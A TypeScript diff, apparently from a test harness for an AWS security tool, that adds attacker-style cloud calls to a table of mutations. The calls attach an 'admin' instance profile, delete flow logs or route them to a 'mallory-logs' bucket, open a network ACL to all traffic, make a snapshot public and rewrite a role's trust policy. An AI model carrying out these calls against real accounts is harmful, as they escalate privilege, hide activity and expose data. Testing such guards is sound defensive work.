@@ -16,6 +16,7 @@ export function mutations(stolen: Incident, infected: Incident): Readonly<Record
   const GroupId = idOf(infected, 'security-group');
   const NetworkInterfaceId = idOf(infected, 'network-interface');
   const tags = { Resources: [InstanceId], Tags: [{ Key: 'sallyport:protected', Value: 'yes' }] };
+  const aclEntry = { NetworkAclId: 'acl-0a000000000000001', RuleNumber: 1, Egress: false };
   const inEc2 =
     (send: (client: ec2.EC2Client) => Promise<unknown>): Call =>
     (settings) =>
@@ -50,6 +51,57 @@ export function mutations(stolen: Incident, infected: Incident): Readonly<Record
     ),
     ModifyInstanceMetadataOptions: inEc2((client) =>
       client.send(new ec2.ModifyInstanceMetadataOptionsCommand({ InstanceId, HttpTokens: 'optional' })),
+    ),
+    AssociateIamInstanceProfile: inEc2((client) =>
+      client.send(
+        new ec2.AssociateIamInstanceProfileCommand({ InstanceId, IamInstanceProfile: { Name: 'admin' } }),
+      ),
+    ),
+    DisassociateIamInstanceProfile: inEc2((client) =>
+      client.send(
+        new ec2.DisassociateIamInstanceProfileCommand({ AssociationId: 'iip-assoc-0a000000000000001' }),
+      ),
+    ),
+    CreateFlowLogs: inEc2((client) =>
+      client.send(
+        new ec2.CreateFlowLogsCommand({
+          ResourceIds: [NetworkInterfaceId],
+          ResourceType: 'NetworkInterface',
+          TrafficType: 'ALL',
+          LogDestinationType: 's3',
+          LogDestination: 'arn:aws:s3:::mallory-logs',
+        }),
+      ),
+    ),
+    DeleteFlowLogs: inEc2((client) =>
+      client.send(new ec2.DeleteFlowLogsCommand({ FlowLogIds: ['fl-0a000000000000001'] })),
+    ),
+    CreateNetworkAclEntry: inEc2((client) =>
+      client.send(
+        new ec2.CreateNetworkAclEntryCommand({
+          ...aclEntry,
+          Protocol: '-1',
+          RuleAction: 'allow',
+          CidrBlock: '0.0.0.0/0',
+        }),
+      ),
+    ),
+    DeleteNetworkAclEntry: inEc2((client) => client.send(new ec2.DeleteNetworkAclEntryCommand(aclEntry))),
+    ModifySnapshotAttribute: inEc2((client) =>
+      client.send(
+        new ec2.ModifySnapshotAttributeCommand({
+          SnapshotId: 'snap-0a000000000000001',
+          CreateVolumePermission: { Add: [{ Group: 'all' }] },
+        }),
+      ),
+    ),
+    UpdateAssumeRolePolicy: inIam((client) =>
+      client.send(
+        new iam.UpdateAssumeRolePolicyCommand({
+          RoleName: 'app-runtime',
+          PolicyDocument: policy.PolicyDocument,
+        }),
+      ),
     ),
     StopInstances: inEc2((client) =>
       client.send(new ec2.StopInstancesCommand({ InstanceIds: [InstanceId] })),
